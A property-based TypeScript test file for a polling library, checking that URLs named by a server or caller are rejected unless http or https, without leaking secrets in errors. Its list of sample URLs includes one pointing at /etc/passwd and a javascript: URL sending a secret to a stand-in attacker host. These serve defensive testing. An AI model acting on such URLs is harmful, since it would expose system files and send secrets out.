import type { Socket } from 'node:net';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { constant, fetchWithRetry, poll } from '../../src/index.js';
import { pollOperation } from '../../src/operation/index.js';
import { realTimersEnv } from '../helpers/env.js';
import { trackListeners } from '../helpers/event-listeners.js';
import { FC_RUNS, slowRuns, watchUnhandled } from '../property/runs.js';
import { expectNothingLeft, startRawServer, timersNow, type RawRequest } from './raw-server.js';

// Issue 33, "trust nothing a server says": pollite requests only http and https URLs a server
// names, and only URLs fetch can request of the caller's. Generated URLs of other schemes (file:,
// ftp:, javascript:, about:, blob:, data:, ws:, mailto:... in any case, and in a JSON body with the
// blanks and tabs the URL parser drops), in every place a server or `operationUrl` names one,
// reject at once with the TypeError that names the place and the scheme, never the URL, having
// requested nothing there and waited for nothing; as the caller's own input, poll,
// fetchWithRetry and pollOperation reject before calling fetch at all.

/** Where a URL of the server's choosing goes. */
type Position = 'operation-location' | 'azure-asyncoperation' | 'location' | 'operationUrl' | 'resourceLocation' | 'final-location' | 'start-location';
const POSITIONS: readonly Position[] = ['operation-location', 'azure-asyncoperation', 'location', 'operationUrl', 'resourceLocation', 'final-location', 'start-location'];

/** What the TypeError names for each position. */
const NAMED_BY: Record<Position, string> = {
  'operation-location': 'the Operation-Location header',
  'azure-asyncoperation': 'the Azure-AsyncOperation header',
  location: "the 202's Location header",
  operationUrl: '`operationUrl`',
  resourceLocation: "the final status's resourceLocation",
  'final-location': "the final status's Location header",
  'start-location': "the start answer's Location header",
};
/** Positions named once the operation succeeded: the monitor is polled first. */
const AFTER_POLLS = new Set<Position>(['resourceLocation', 'final-location', 'start-location']);

/** The mark of a value that must be in no message. */
const SECRET = 'SECRET';

/**
 * A URL of a scheme pollite must not request, as a server would write it. `{port}` is the case's
 * server, for the URLs that would reach it if they were requested; `data:` holds an answer that
 * would end the operation if it were fetched.
 */
const ODD: ReadonlyArray<readonly [string, string]> = [
  ['file', `file:///etc/passwd?token=${SECRET}`],
  ['ftp', `ftp://127.0.0.1:{port}/ops/1?token=${SECRET}`],
  ['javascript', `javascript:fetch('//evil.example/${SECRET}')`],
  ['about', `about:blank#${SECRET}`],
  ['blob', `blob:http://127.0.0.1:{port}/0f1e-${SECRET}`],
  ['data', `data:application/json,{"status":"Succeeded","answer":"${SECRET}"}`],
  ['ws', `ws://127.0.0.1:{port}/ops/1?token=${SECRET}`],
  ['wss', `wss://127.0.0.1:{port}/ops/1?token=${SECRET}`],
  ['mailto', `mailto:ops@example.com?subject=${SECRET}`],
  ['gopher', `gopher://127.0.0.1:{port}/1${SECRET}`],
  ['chrome-extension', `chrome-extension://abcdefgh/${SECRET}.html`],
  ['x-pollite+test', `x-pollite+test:${SECRET}`],
];

interface OddUrl {
  scheme: string;
  rest: string;
  /** How each letter of the scheme is cased. */
  casing: boolean[];
  /** Blanks before it, and a tab or newline inside its scheme: dropped by the URL parser, so only where JSON can carry them. */
  lead: string;
  inner: '' | '\t' | '\n';
}
const oddUrlArb: fc.Arbitrary<OddUrl> = fc
  .constantFrom(...ODD)
  .chain(([scheme, url]) =>
    fc.record({
      scheme: fc.constant(scheme),
      rest: fc.constant(url.slice(scheme.length)),
      casing: fc.array(fc.boolean(), { minLength: scheme.length, maxLength: scheme.length }),
      lead: fc.constantFrom('', ' ', '\t', ' \n '),
      inner: fc.constantFrom('' as const, '\t' as const, '\n' as const),
    }),
  );

/** The URL as written in `position`: headers get the casing only (no control characters in a field value). */
function written(odd: OddUrl, position: Position, port: number): string {
  const cased = [...odd.scheme].map((char, i) => (odd.casing[i] ? char.toUpperCase() : char)).join('');
  const rest = odd.rest.replaceAll('{port}', String(port));
  if (position !== 'resourceLocation' && position !== 'operationUrl') return `${cased}${rest}`;
  const split = Math.min(1, cased.length);
  return `${odd.lead}${cased.slice(0, split)}${odd.inner}${cased.slice(split)}${rest}`;
}

interface SchemeCase {
  position: Position;
  odd: OddUrl;
  running: number;
}
const schemeCaseArb: fc.Arbitrary<SchemeCase> = fc.record({ position: fc.constantFrom(...POSITIONS), odd: oddUrlArb, running: fc.integer({ min: 0, max: 2 }) });

const OK = (status: string, fields: string[], body = ''): string =>
  `HTTP/1.1 ${status}\r\n${[...fields, ...(body ? ['Content-Type: application/json'] : []), `Content-Length: ${Buffer.byteLength(body)}`, 'Connection: close'].join('\r\n')}\r\n\r\n${body}`;

const listeners = trackListeners();
afterAll(() => listeners.uninstall());
const unhandled = watchUnhandled();
afterAll(() => unhandled.stop());

/** A retried network failure would wait this long: no such wait may be asked for. */
const BACKOFF = 60_000;
/** "At once": from the answer that named the URL to the rejection, far below {@link BACKOFF}. */
const AT_ONCE = 1000;

describe('a URL a server names is requested only if it is http or https', () => {
  it(`in every place it may be named, any other scheme rejects at once with the TypeError naming the place and the scheme (${slowRuns(120)} runs)`, async () => {
    await fc.assert(
      fc.asyncProperty(schemeCaseArb, async (c) => {
        const state = { polls: 0, namedAt: 0, url: '' };
        const answer = (socket: Socket, _index: number, request: RawRequest): void => {
          const odd = (position: Position): string | undefined => (c.position === position ? state.url : undefined);
          const key = `${request.method} ${request.path}`;
          if (key === 'POST /jobs') {
            const monitor = odd('operation-location') ?? odd('azure-asyncoperation') ?? odd('location') ?? '/ops/1';
            const header = c.position === 'azure-asyncoperation' ? 'Azure-AsyncOperation' : c.position === 'location' ? 'Location' : 'Operation-Location';
            const fields = [`${header}: ${monitor}`, ...(c.position === 'start-location' ? [`Location: ${state.url}`] : [])];
            if (!AFTER_POLLS.has(c.position)) state.namedAt = performance.now();
            return void socket.end(OK('202 Accepted', fields));
          }
          if (key === 'GET /ops/1') {
            state.polls += 1;
            if (state.polls <= c.running) return void socket.end(OK('200 OK', [], '{"status":"Running"}'));
            state.namedAt = performance.now();
            const body = JSON.stringify({ status: 'Succeeded', ...(c.position === 'resourceLocation' && { resourceLocation: state.url }) });
            return void socket.end(OK('200 OK', c.position === 'final-location' ? [`Location: ${state.url}`] : [], body));
          }
          socket.end(OK('404 Not Found', []));
        };
        const server = await startRawServer(answer);
        state.url = written(c.odd, c.position, server.port);
        const base = `http://127.0.0.1:${server.port}`;
        const timersBefore = timersNow();
        const controller = new AbortController();
        const { env, pending, delays } = realTimersEnv();
        const fetched: string[] = [];
        const recording: typeof fetch = (input, init) => {
          fetched.push(String(input instanceof Request ? input.url : input));
          return fetch(input, init);
        };
        listeners.forget();
        const running = pollOperation(`${base}/jobs`, {
          method: 'POST',
          body: '{}',
          signal: controller.signal,
          operation: { env, fetch: recording, interval: 1, backoff: constant(BACKOFF), retries: 3, ...(c.position === 'operationUrl' && { operationUrl: () => state.url }) },
        }).then(
          (value) => ({ value }),
          (error: unknown) => ({ error }),
        );
        // A guard, so that a URL retried as a network failure fails this case rather than the test's timeout.
        let guard: ReturnType<typeof setTimeout> | undefined;
        const outcome = await Promise.race([running, new Promise<{ stuck: true }>((resolve) => (guard = setTimeout(() => resolve({ stuck: true }), 5000)))]);
        clearTimeout(guard);
        const settledAt = performance.now();
        if ('stuck' in outcome) controller.abort(new Error('the case did not settle'));
        await running;
        const protocol = new URL(state.url.replace(/[\t\n]/g, '').trim()).protocol;
        const context = `${JSON.stringify({ ...c, url: state.url })} -> ${'error' in outcome ? String(outcome.error) : JSON.stringify(outcome)}, fetched ${JSON.stringify(fetched)}, waits ${JSON.stringify(delays)}`;
        expect(outcome, context).toEqual({ error: new TypeError(`Expected ${NAMED_BY[c.position]} to name an http or https URL, got a ${protocol} URL`) });
        expect(String((outcome as { error: Error }).error.message), context).not.toContain(SECRET);
        // Nothing requested there, nothing waited for: only the start and the polls, each once.
        const polls = AFTER_POLLS.has(c.position) ? c.running + 1 : 0;
        expect(fetched, context).toEqual([`${base}/jobs`, ...Array<string>(polls).fill(`${base}/ops/1`)]);
        expect(server.heads.map((h) => `${h.method} ${h.path}`), context).toEqual(['POST /jobs', ...Array<string>(polls).fill('GET /ops/1')]);
        expect(delays.filter((ms) => ms > 1), context).toEqual([]);
        expect(settledAt - state.namedAt, context).toBeLessThan(AT_ONCE);
        await expectNothingLeft({ servers: [server], pending, signal: controller.signal, timersBefore, listeners }, context);
        expect(unhandled.seen, context).toEqual([]);
      }),
      { numRuns: slowRuns(120) },
    );
  }, 240_000);
});

/** A caller's URL fetch cannot request, with a secret in its query (which every message redacts). */
const callerUrlArb = fc
  .record({
    scheme: fc.constantFrom('ftp', 'file', 'ws', 'wss', 'javascript', 'about', 'mailto', 'gopher', 'chrome-extension', 'x-pollite+test'),
    upper: fc.boolean(),
    path: fc.stringMatching(/^[a-z0-9/]{0,12}$/),
    form: fc.constantFrom('string' as const, 'URL' as const, 'Request' as const),
  })
  // A file: URL has no port.
  .map((u) => ({ ...u, href: `${u.upper ? u.scheme.toUpperCase() : u.scheme}://${u.scheme === 'file' ? '' : '127.0.0.1:2'}/${u.path}?token=${SECRET}` }));

describe("the caller's own URL is checked before anything is sent", () => {
  it(`poll, fetchWithRetry and pollOperation reject a URL fetch cannot request with a TypeError, fetch never called (${FC_RUNS} runs)`, async () => {
    await fc.assert(
      fc.asyncProperty(callerUrlArb, fc.constantFrom('poll' as const, 'fetchWithRetry' as const, 'pollOperation' as const), async (u, api) => {
        const calls: unknown[] = [];
        const fetchSpy: typeof fetch = (input) => {
          calls.push(input);
          return Promise.reject(new TypeError('fetch must not be called'));
        };
        const { env, pending } = realTimersEnv();
        const input = u.form === 'string' ? u.href : u.form === 'URL' ? new URL(u.href) : new Request(u.href);
        listeners.forget();
        let returned: Promise<unknown> | undefined;
        let thrown: unknown;
        try {
          returned =
            api === 'poll'
              ? poll(input, { env, fetch: fetchSpy, backoff: constant(BACKOFF) })
              : api === 'fetchWithRetry'
                ? fetchWithRetry(input, { retry: { env, fetch: fetchSpy, backoff: constant(BACKOFF) } })
                : pollOperation(input, { method: 'POST', body: '{}', operation: { env, fetch: fetchSpy, backoff: constant(BACKOFF) } });
        } catch (error) {
          thrown = error;
        }
        const context = `${api}(${u.form} ${u.href})${thrown === undefined ? '' : ` threw at once: ${String(thrown)}`}`;
        expect(returned, `${context}: a rejection, not a throw`).toBeInstanceOf(Promise);
        const error = await returned!.then(
          (value) => expect.fail(`${context}: resolved with ${String(value)}`),
          (reason: unknown) => reason as Error,
        );
        const protocol = new URL(u.href).protocol;
        expect(error, `${context}: ${String(error)}`).toBeInstanceOf(TypeError);
        expect(error.message, context).toMatch(new RegExp(`^Expected \`input\` to be a URL with a scheme fetch can request \\(http:, https:, data:, blob:\\), got ${protocol.replace(/[+]/g, '\\+')} in `));
        expect(error.message, context).not.toContain(SECRET);
        expect(calls, context).toEqual([]);
        expect(pending(), context).toBe(0);
        expect(listeners.live(undefined, 'code'), context).toEqual([]);
        expect(unhandled.seen, context).toEqual([]);
      }),
      { numRuns: FC_RUNS },
    );
  }, 120_000);
});
